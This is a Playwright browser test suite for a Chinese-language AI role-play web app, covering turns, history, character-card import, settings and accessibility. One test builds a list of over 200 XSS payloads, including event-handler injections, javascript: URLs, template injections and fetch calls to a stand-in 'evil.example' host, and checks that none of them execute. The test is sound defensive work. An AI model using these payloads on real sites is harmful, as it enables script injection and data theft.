// Goal: the page works in a browser, on the real program: a first visit, turns, refusals, conflicts
// with each choice, re-rolls, edits, history, cards, settings, both languages, two browsers at once and
// a restart in between. Nothing that a story, a name or a value holds is ever run (S10), nothing is
// asked of other servers, and axe finds no serious violation.
// Usage: node page_test.mjs ARBITER [NAME…]      NAME: only tests whose name contains it
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { crc32 } from "node:zlib";

import { Arbiter } from "./serving.mjs";

const here = path.dirname(fileURLToPath(import.meta.url));
const modules = path.join(here, "../../web/node_modules");
const { chromium } = await import(path.join(modules, "playwright-core/index.mjs"));
const axe = readFileSync(path.join(modules, "axe-core/axe.min.js"), "utf8");
const [program, ...wanted] = process.argv.slice(2);
const folder = mkdtempSync(path.join(tmpdir(), "arbiter-page-"));

// A narrator who says what the state denies.
writeFileSync(path.join(folder, "liar.yaml"), 'model: liar\ndefault: "阿梨的生命值只剩 3 点。老周站在一旁。"\n');

// A zip archive with one file, stored as it is.
function zipOf(name, content) {
    const [path, data] = [Buffer.from(name), Buffer.from(content)];
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt32LE(crc32(data), 10);
    fields.writeUInt32LE(data.length, 14);
    fields.writeUInt32LE(data.length, 18);
    fields.writeUInt16LE(path.length, 22);
    const local = Buffer.concat([Buffer.from("PK\x03\x04"), fields, path, data]);
    const entry = Buffer.concat([Buffer.from("PK\x01\x02\x14\x00"), fields, Buffer.alloc(14), path]);
    const end = Buffer.alloc(22);
    end.write("PK\x05\x06", "latin1");
    end.writeUInt16LE(1, 8);
    end.writeUInt16LE(1, 10);
    end.writeUInt32LE(entry.length, 12);
    end.writeUInt32LE(local.length, 16);
    return Buffer.concat([local, entry, end]);
}

// A model server whose reply has `count` pieces, one every `pause` milliseconds.
async function startNarrator(count, pause) {
    const narrator = createServer((request, response) => {
        request.resume();
        if (request.method === "GET") {
            response.setHeader("Content-Type", "application/json");
            response.end(JSON.stringify({ object: "list", data: [{ id: "many", object: "model" }] }));
            return;
        }
        let body = "";
        request.on("data", (piece) => (body += piece));
        request.on("end", () => {
            if (!JSON.parse(body).stream) {
                response.setHeader("Content-Type", "application/json");
                response.end(JSON.stringify({ choices: [{ message: { role: "assistant", content: "ok" }, finish_reason: "stop" }] }));
                return;
            }
            response.setHeader("Content-Type", "text/event-stream");
            let next = 0;
            const timer = setInterval(() => {
                const content = `雾${next}，${next % 40 === 39 ? "\n\n" : ""}`;
                response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`);
                next += 1;
                if (next === count) {
                    clearInterval(timer);
                    response.end('data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n');
                }
            }, pause);
            response.on("close", () => clearInterval(timer));
        });
    });
    await new Promise((resolve) => narrator.listen(0, "127.0.0.1", resolve));
    return { url: `http://127.0.0.1:${narrator.address().port}`, stop: () => narrator.close() };
}

const server = await Arbiter.start(path.resolve(program), folder, "--demo", "--lang", "zh", "--script", "liar.yaml");
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: ["--no-sandbox"] });

const problems = []; // of any page: errors, executed payloads, violations of the policy, outside requests

async function open(hash = "#/", { lang = "zh-CN", width = 1280, height = 860, colorScheme = "light" } = {}) {
    const context = await browser.newContext({ viewport: { width, height }, locale: lang, colorScheme });
    const page = await context.newPage();
    await page.addInitScript(() => {
        globalThis.reported = [];
        addEventListener("securitypolicyviolation", (event) => globalThis.reported.push(`${event.violatedDirective} ${event.blockedURI}`));
    });
    page.on("pageerror", (error) => problems.push(`error: ${error.message}`));
    page.on("dialog", (dialog) => {
        problems.push(`dialog: ${dialog.message()}`);
        void dialog.dismiss();
    });
    page.on("request", (request) => {
        if (!request.url().startsWith(server.url)) {
            problems.push(`outside request: ${request.url()}`);
        }
    });
    await page.goto(`${server.url}/${hash}`);
    return page;
}

const text = (page, words) => page.getByText(words, { exact: false }).first().waitFor({ timeout: 15_000 });
async function say(page, words) {
    const before = await page.locator("article").count();
    await page.getByLabel("你的话").fill(words);
    await page.keyboard.press("Enter");
    await page.waitForFunction((count) => document.querySelectorAll("article").length > count, before, { timeout: 15_000 });
    await page.locator(".phase").waitFor({ state: "detached", timeout: 15_000 });
}
const state = (id) => server.call("GET", `/api/v1/campaigns/${id}/state`);
const history = (id) => server.call("GET", `/api/v1/campaigns/${id}/history`);

const tests = {
    async "first visit, then the demo"() {
        const page = await open();
        await text(page, "模型提议，系统裁决");
        await page.getByRole("button", { name: "开始", exact: true }).click();
        await text(page, "雾很厚");
        await page.locator("aside .place").filter({ hasText: "旧码头" }).waitFor();
        await page.context().close();
    },
    async "a turn: reply, verdict, place"() {
        const page = await open("#/c/demo/play");
        await say(page, "去灯塔");
        await text(page, "你沿着石阶往上走");
        await text(page, "1 项生效");
        await page.locator("aside .place").filter({ hasText: "灯塔" }).waitFor();
        assert.equal((await state("demo")).document.campaign.characters.ali.area_id, "tower");
        await page.context().close();
    },
    async "a refusal says why and what would have worked"() {
        const page = await open("#/c/demo/play");
        await say(page, "下地窖");
        await text(page, "地板上有一把锁");
        await page.getByRole("button", { name: /项被拒/ }).last().click();
        await text(page, "出自撤回的草稿");
        assert.ok((await page.locator(".verdicts li .soft").last().textContent()).length > 4);
        await page.context().close();
    },
    async "re-roll and swipe"() {
        const page = await open("#/c/demo/play");
        await page.getByRole("button", { name: "重新讲述" }).click();
        await text(page, "2/2");
        await page.getByRole("button", { name: "上一个版本" }).click();
        await text(page, "1/2");
        await page.context().close();
    },
    async "edit a reply"() {
        const page = await open("#/c/demo/play");
        await page.getByRole("button", { name: "编辑回复" }).click();
        await page.locator("article textarea").fill("锁上的铜绿在灯下发亮。");
        await page.getByRole("button", { name: "采用这段文字" }).click();
        await text(page, "锁上的铜绿");
        await text(page, "3/3");
        assert.equal((await history("demo")).turns.at(-1).shown, "锁上的铜绿在灯下发亮。");
        await page.context().close();
    },
    async "dice are dice"() {
        const page = await open("#/c/demo/play");
        await say(page, "掷骰");
        await text(page, "2d6+3");
        assert.equal(await page.locator(".roll svg").count(), 2);
        await page.context().close();
    },
    async "history: checkpoint, compare, rollback, undo, branch"() {
        const page = await open("#/c/demo/history");
        await page.locator("#turn-0 button").click();
        await page.getByLabel("存档点名称").fill("掷骰之后");
        await page.getByRole("button", { name: "设存档点" }).click();
        await page.locator(".label").filter({ hasText: "掷骰之后" }).waitFor();
        const before = (await history("demo")).head;
        const row = page.getByRole("button", { name: /^2 去灯塔/ });
        await row.click();
        await page.getByRole("button", { name: "与现在比较" }).click();
        await text(page, "比较");
        await row.click();
        await page.getByRole("button", { name: "回滚到这里" }).click();
        await page.getByRole("button", { name: "撤销回滚" }).first().waitFor();
        assert.notEqual((await history("demo")).head, before);
        await page.getByRole("button", { name: "撤销回滚" }).first().click();
        await page.locator(".line", { has: page.locator(".here") }).filter({ hasText: "掷骰" }).waitFor();
        assert.equal((await history("demo")).head, before);
        await row.click();
        await page.getByRole("button", { name: "从这里分支" }).click();
        await say(page, "问老周要钥匙");
        const { turns } = await server.call("GET", "/api/v1/campaigns/demo/history?all=true");
        const parents = turns.map((turn) => turn.parent);
        assert.ok(parents.some((parent, index) => parents.indexOf(parent) !== index), "a turn has two children");
        await page.context().close();
    },
    async "state: search, last change, the past of a value"() {
        const page = await open("#/c/demo/state");
        await page.getByLabel("搜索名称与值").fill("area_id");
        await page.getByRole("treeitem", { name: /area_id/ }).first().click();
        await text(page, "来历");
        await text(page, "第 2 回合 · 主持人");
        await page.context().close();
    },
    async "state: a value is changed by hand, refused kindly, undone"() {
        const page = await open("#/c/demo/state");
        await page.getByLabel("搜索名称与值").fill("current");
        const row = page.getByRole("treeitem", { name: /current/ }).first();
        const hp = async () => (await state("demo")).document.campaign.characters.ali.hp.current;
        const before = await hp();
        await row.focus();
        await page.keyboard.press("F2");
        const field = page.getByRole("textbox", { name: /^修改 .*生命/ });
        await field.fill("7");
        await text(page, "可以修改");
        assert.equal(await hp(), before, "judging stores nothing");
        await page.keyboard.press("Enter");
        await text(page, "已修改");
        assert.equal(await hp(), 7);
        const { turns } = await history("demo");
        assert.equal(turns.at(-1).actor, "user");
        await page.getByRole("button", { name: "撤销", exact: true }).click();
        await page.waitForFunction(() => !document.querySelector(".toast button"), undefined, { timeout: 15_000 }).catch(() => undefined);
        await page.getByRole("treeitem", { name: new RegExp(`current.*${before}`) }).first().waitFor();
        assert.equal(await hp(), before);
        // The goal is closed to the player's hand: the reason stands beside the field.
        await page.getByLabel("搜索名称与值").fill("is_hidden");
        const closed = page.getByRole("treeitem", { name: /is_hidden/ }).first();
        await closed.focus();
        await page.keyboard.press("F2");
        await page.getByRole("textbox", { name: /^修改 / }).fill("false");
        await page.locator(".judged.bad").waitFor();
        assert.ok((await page.locator(".judged.bad").textContent()).length > 5);
        assert.ok(await page.getByRole("button", { name: "确认修改" }).isDisabled());
        await page.keyboard.press("Escape");
        await page.context().close();
    },
    async "state: marks name the rule"() {
        const page = await open(`#/c/demo/state/${encodeURIComponent("/campaign/characters/ali/hp/current")}`);
        await text(page, "受保护");
        await text(page, "hp_delta");
        await page.getByLabel("显示").selectOption("marked");
        await page.getByRole("treeitem", { name: /current/ }).first().waitFor();
        await page.context().close();
    },
    async "re-roll with a wish"() {
        const page = await open("#/c/demo/play");
        await text(page, "雾很厚");
        await page.getByRole("button", { name: "换个讲法" }).click();
        const asked = page.waitForRequest((request) => request.url().endsWith("/reroll"));
        await page.getByRole("button", { name: "短一些" }).click();
        assert.equal((await asked).postDataJSON().hint, "短一些");
        await page.locator("article .count").filter({ hasText: /^(\d+)\/\1$/ }).waitFor();
        const { turns } = await server.call("GET", "/api/v1/campaigns/demo/history?all=true");
        const last = turns.at(-1);
        assert.ok(turns.filter((turn) => turn.parent === last.parent && turn.said === last.said).length > 1);
        await page.context().close();
    },
    async "table: a map that stays arranged, a time line"() {
        const page = await open("#/c/demo/table");
        const place = page.getByRole("button", { name: /^灯塔/ }).first();
        await text(page, "阿梨来到灯塔");
        const from = await place.boundingBox();
        await page.mouse.move(from.x + from.width / 2, from.y + from.height / 2);
        await page.mouse.down();
        await page.mouse.move(from.x + from.width / 2 + 60, from.y + from.height / 2 + 40, { steps: 4 });
        await page.mouse.up();
        const moved = await place.getAttribute("transform");
        await page.reload();
        await text(page, "阿梨来到灯塔");
        assert.equal(await place.getAttribute("transform"), moved);
        await page.context().close();
    },
    async "rules: findings and rulebooks; prompt: compared with the last one"() {
        const card = { spec: "chara_card_v2", spec_version: "2.0", data: { name: "规则", first_mes: "……" } };
        await server.call("POST", "/api/v1/campaigns", { id: "ruled", card, profile: "tavern", protocols: ["love_system_simple"] });
        const page = await open("#/c/ruled/rules");
        await text(page, "规则书与协议没有发现问题");
        await page.locator("details.card summary").first().waitFor();
        await page.goto(`${server.url}/#/c/demo/prompt`);
        await page.getByLabel("与上一次回复的提示词比较").check();
        await page.locator(".diff .added").first().waitFor();
        await page.context().close();
    },
    async "the language is switched, and kept"() {
        const page = await open("#/c/demo/play");
        await page.getByTestId("language").click();
        await page.getByRole("link", { name: "History" }).waitFor();
        await page.reload();
        await page.getByRole("link", { name: "Settings" }).waitFor();
        assert.equal(await page.locator("html").getAttribute("lang"), "en");
        await page.context().close();
    },
    async "a second browser sees it live"() {
        const [one, two] = [await open("#/c/demo/play"), await open("#/c/demo/play")];
        await text(two, "雾很厚");
        await say(one, "去货仓看看");
        await text(two, "去货仓看看");
        await Promise.all([one.context().close(), two.context().close()]);
    },
    async "a restart loses nothing"() {
        const page = await open("#/c/demo/play");
        await text(page, "雾很厚");
        await page.getByLabel("你的话").fill("说到一半的话");
        await server.stop();
        await text(page, "连接中断");
        await server.restart();
        await page.locator(".banner").waitFor({ state: "detached", timeout: 20_000 });
        assert.equal(await page.getByLabel("你的话").inputValue(), "说到一半的话");
        await page.reload();
        await text(page, "雾很厚");
        assert.equal(await page.getByLabel("你的话").inputValue(), "说到一半的话");
        await say(page, "休息");
        await page.context().close();
    },
    async "a conflict with each of its choices"() {
        const settings = { "conflict.fallback": "report", "conflict.max_retries": 0, "turn.max_retries": 0 };
        await server.call("POST", "/api/v1/campaigns", { id: "clash", name: "冲突", table: "demo", settings });
        const page = await open("#/c/clash/play");
        const turns = async () => (await history("clash")).turns.length;
        const clash = async (words, button) => {
            await page.getByLabel("你的话").fill(words);
            await page.keyboard.press("Enter");
            await text(page, "叙述与状态矛盾");
            await text(page, "生命值只剩 3");
            await page.getByRole("button", { name: button }).click();
        };
        await clash("看看伤", "以状态为准");
        await text(page, "老周站在一旁。");
        await clash("再看看伤", "我来改写");
        await page.getByLabel("用你的话来叙述").fill("伤口已经结痂。");
        await page.getByRole("button", { name: "采用我的文字" }).click();
        await text(page, "伤口已经结痂。");
        await clash("伤怎么样", "就让它成真");
        await page.locator("aside .hp").filter({ hasText: "3/12" }).waitFor();
        const before = await turns();
        await server.call("POST", "/api/v1/campaigns/clash/propose", { text: "<JSONPatch>[{\"op\":\"replace\",\"path\":\"/campaign/characters/ali/hp/current\",\"value\":9}]</JSONPatch>" });
        await page.locator("aside .hp").filter({ hasText: "9/12" }).waitFor();
        await clash("最后看一眼", "退回一个回合");
        await page.locator(".conflict").waitFor({ state: "detached" });
        assert.ok((await turns()) <= before);
        await page.context().close();
    },
    async "a card is brought, with its report"() {
        const card = {
            spec: "chara_card_v2",
            spec_version: "2.0",
            data: { name: "林小棠", first_mes: "雨停了。“你来啦。”她笑着说。", description: "茶馆老板", extensions: { unknown_thing: 1 } },
        };
        const page = await open();
        const chosen = page.waitForEvent("filechooser");
        await page.getByRole("button", { name: "选择文件" }).click();
        await (await chosen).setFiles({ name: "card.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(card)) });
        await text(page, "林小棠");
        await text(page, "未采用");
        await page.getByRole("button", { name: "开始故事" }).click();
        await text(page, "雨停了");
        const bad = await open();
        const again = bad.waitForEvent("filechooser");
        await bad.getByRole("button", { name: "选择文件" }).click();
        await (await again).setFiles({ name: "x.png", mimeType: "image/png", buffer: Buffer.from("not a picture") });
        await bad.getByRole("alert").waitFor();
        await Promise.all([page.context().close(), bad.context().close()]);
    },
    async "a CHARX is dropped, and the report says what is not taken over"() {
        const card = { spec: "chara_card_v3", spec_version: "3.0", data: { name: "柳如烟", first_mes: "茶还温着。", assets: [{ type: "icon", uri: "embeded://assets/icon/main.png", name: "main", ext: "png" }] } };
        const bytes = [...zipOf("card.json", JSON.stringify(card))];
        const page = await open();
        await text(page, "带一张角色卡来");
        const data = await page.evaluateHandle((bytes) => {
            const transfer = new DataTransfer();
            transfer.items.add(new File([new Uint8Array(bytes)], "liu.charx"));
            return transfer;
        }, bytes);
        await page.locator("section.door").nth(1).dispatchEvent("drop", { dataTransfer: data });
        await text(page, "柳如烟");
        await text(page, "不显示卡内附带的图片");
        await page.getByRole("button", { name: "开始故事" }).click();
        await text(page, "茶还温着");
        await page.context().close();
    },
    async "settings, tools and protocols are changed"() {
        const page = await open("#/c/demo/settings");
        await page.getByLabel("搜索设置").fill("retry_with_debug");
        await page.locator(".item", { hasText: "conflict.retry_with_debug" }).getByRole("switch").click();
        await text(page, "已改动");
        assert.equal((await server.call("GET", "/api/v1/campaigns/demo/settings")).settings["conflict.retry_with_debug"], false);
        await page.goto(`${server.url}/#/c/demo/tools`);
        await page.getByRole("switch", { name: "允许 roll" }).click();
        await page.locator("[aria-label='允许 roll'][aria-checked=false]").waitFor();
        assert.ok(!(await server.call("GET", "/api/v1/campaigns/demo/tools")).allowed.includes("roll"));
        await page.goto(`${server.url}/#/c/demo/rules`);
        await page.locator("li", { hasText: "choice" }).getByRole("switch").first().click();
        await text(page, "自第");
        await page.goto(`${server.url}/#/c/demo/prompt`);
        await text(page, "可缓存");
        await page.context().close();
    },
    async "a model that does not answer is explained"() {
        const page = await open();
        await page.getByRole("button", { name: "连接", exact: true }).click();
        await page.getByLabel("地址").fill("http://127.0.0.1:9/v1");
        await page.getByRole("button", { name: "测试" }).click();
        await page.locator(".steps li, [role=alert]").first().waitFor({ timeout: 30_000 });
        await page.context().close();
    },
    async "200 payloads are text (S10)"() {
        const bodies = ["alert(1)", "globalThis.ran=1", "fetch('//evil.example')", "document.title='x'", "throw 1"];
        const forms = (js) => [
            `<script>${js}</script>`, `<img src=x onerror="${js}">`, `<svg onload="${js}">`, `<svg><script>${js}</script></svg>`,
            `"><img src=x onerror=${js}>`, `'><svg/onload=${js}>`, `<iframe srcdoc="<script>${js}</script>">`, `<iframe src="javascript:${js}">`,
            `<a href="javascript:${js}">x</a>`, `<math><mtext><img src=x onerror=${js}></mtext></math>`, `<details open ontoggle=${js}>`,
            `<style>@import "//evil.example/x.css";*{background:url(//evil.example)}</style>`, `<link rel=stylesheet href=//evil.example/${js}>`,
            `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${js}">`, `<object data="data:text/html,<script>${js}</script>">`,
            `<embed src="javascript:${js}">`, `<video><source onerror="${js}">`, `<audio src=x onerror=${js}>`, `<body onload=${js}>`,
            `<input autofocus onfocus=${js}>`, `<marquee onstart=${js}>`, `<template><img src=x onerror=${js}></template>`, `{@html "<img src=x onerror=${js}>"}`,
            `\${${js}}`, `{{constructor.constructor('${js}')()}}`, `javascript:${js}`, `data:text/html,<script>${js}</script>`,
            `<form action="javascript:${js}"><button>`, `<button formaction="javascript:${js}">x`, `<x onclick=${js}>`, `<svg><animate onbegin=${js} attributeName=x>`,
            `<img srcset=x onerror=${js}>`, `<!--<img src="--><img src=x onerror=${js}//">`, `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
            `<textarea></textarea><img src=x onerror=${js}>`, `<title></title><img src=x onerror=${js}>`, `<select><img src=x onerror=${js}></select>`,
            `&lt;img src=x onerror=${js}&gt;`, `**<img src=x onerror=${js}>**`,
        ];
        const payloads = bodies.flatMap(forms);
        assert.ok(payloads.length >= 200);
        const document = { values: payloads, names: Object.fromEntries(payloads.map((each) => [each, 1])) };
        await server.call("POST", "/api/v1/campaigns", { id: "attack", name: payloads[1], state: document });
        for (let at = 0; at < payloads.length; at += 25) {
            const part = payloads.slice(at, at + 25).join("\n\n");
            await server.call("POST", "/api/v1/campaigns/attack/propose", { text: part, said: payloads[at] });
        }
        await server.call("POST", "/api/v1/campaigns/attack/checkpoints", { label: payloads[1].slice(0, 40) });
        const page = await open();
        await text(page, "onerror");
        for (const view of ["play", "state", "history", "table", "rules", "prompt", "tools", "settings"]) {
            await page.goto(`${server.url}/#/c/attack/${view}`);
            await page.waitForTimeout(400);
        }
        await page.goto(`${server.url}/#/c/attack/state`);
        await page.getByLabel("搜索名称与值").fill("onerror");
        await page.getByRole("treeitem").nth(3).waitFor();
        assert.deepEqual(await page.evaluate(() => globalThis.reported), []);
        assert.equal(await page.evaluate(() => globalThis.ran), undefined);
        assert.equal(await page.locator("iframe, object, embed, math, marquee, base").count(), 0);
        await page.context().close();
    },
    async "5,000 nodes open and scroll"() {
        const places = Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`地点${i}`, { a: i, b: "雾".repeat(300), c: [1, 2], d: true }]));
        await server.call("POST", "/api/v1/campaigns", { id: "large", name: "large", state: places });
        const page = await open("#/c/large/state");
        await text(page, "地点0");
        assert.ok((await page.locator("[role=treeitem]").count()) < 150, "rows out of view are not drawn");
        await page.locator("[role=tree]").evaluate((tree) => tree.scrollTo(0, tree.scrollHeight));
        await text(page, "地点999");
        await page.context().close();
    },
    async "10,000 turns are drawn"() {
        const turns = Array.from({ length: 10_000 }, (_, i) => ({
            id: i.toString(16).padStart(64, "0"), parent: i > 0 ? (i % 50 === 49 ? i - 2 : i - 1).toString(16).padStart(64, "0") : null,
            number: i, time: "2026-01-01T00:00:00Z", actor: "ai", said: `第 ${i} 句`, shown: "雾很厚。",
        }));
        const page = await open("#/");
        await page.route(/\/history\?/, (route) => {
            const query = new URL(route.request().url()).searchParams;
            const before = query.has("before") ? turns.findIndex((turn) => turn.id === query.get("before")) : turns.length;
            const limit = Number(query.get("limit") ?? 50);
            return route.fulfill({ json: { head: turns.at(-1).id, turns: turns.slice(Math.max(0, before - limit), before) } });
        });
        await page.goto(`${server.url}/#/c/large/history`);
        await text(page, "第 9999 句");
        // Earlier pages are read as the end of the list comes near.
        for (let at = 0; at < 60 && (await page.getByText("第 0 句", { exact: true }).count()) === 0; at += 1) {
            await page.locator("[role=list]").first().evaluate((list) => list.scrollTo(0, list.scrollHeight));
            await page.waitForTimeout(150);
        }
        await text(page, "第 0 句");
        assert.ok((await page.locator(".line").count()) < 120, "rows out of view are not drawn");
        await page.context().close();
    },
    async "typing while a reply streams in loses no letter"() {
        const many = await startNarrator(1500, 5);
        await server.call("PUT", "/api/v1/upstream", { url: `${many.url}/v1`, model: "many" });
        await server.call("POST", "/api/v1/campaigns", { id: "stream", name: "stream", profile: "json", settings: { "turn.mode": "live" } });
        const page = await open("#/c/stream/play");
        await page.getByLabel("你的话").fill("讲一个长故事");
        await page.keyboard.press("Enter");
        await text(page, "雾100");
        const typed = "一边看一边写下一句话 and some English too";
        await page.getByLabel("你的话").pressSequentially(typed, { delay: 10 });
        assert.equal(await page.getByLabel("你的话").inputValue(), typed);
        await page.getByText("雾1499").first().waitFor({ timeout: 60_000 });
        assert.equal(await page.getByLabel("你的话").inputValue(), typed);
        await page.context().close();
        many.stop();
    },
    async "axe finds no serious violation"() {
        for (const [lang, colorScheme, width] of [["zh-CN", "light", 1280], ["en-US", "dark", 1280], ["zh-CN", "dark", 390]]) {
            const page = await open("#/", { lang, colorScheme, width });
            for (const view of ["", "play", "state", "history", "table", "rules", "prompt", "tools", "settings"]) {
                await page.goto(`${server.url}/#/${view ? `c/demo/${view}` : ""}`);
                await page.waitForTimeout(700);
                await page.evaluate(axe);
                const { violations } = await page.evaluate(() => globalThis.axe.run({ resultTypes: ["violations"] }));
                const serious = violations
                    .filter((each) => ["serious", "critical"].includes(each.impact))
                    .map((each) => `${view} ${each.id}: ${each.nodes.slice(0, 3).map((node) => `${node.target.join(" ")} ${node.any[0]?.message ?? ""}`).join(" | ")}`);
                assert.deepEqual(serious, [], `${lang} ${colorScheme} ${width}`);
            }
            await page.context().close();
        }
    },
};

let failed = 0;
for (const [name, run] of Object.entries(tests)) {
    if (wanted.length > 0 && !wanted.some((word) => name.includes(word))) {
        continue;
    }
    problems.length = 0;
    try {
        await run();
        assert.deepEqual(problems, []);
        console.log(`ok      ${name}`);
    } catch (error) {
        failed += 1;
        console.log(`FAILED  ${name}\n${error.stack}\n${problems.join("\n")}`);
    }
}
await browser.close();
await server.stop();
rmSync(folder, { recursive: true, force: true });
process.exit(failed > 0 ? 1 : 0);
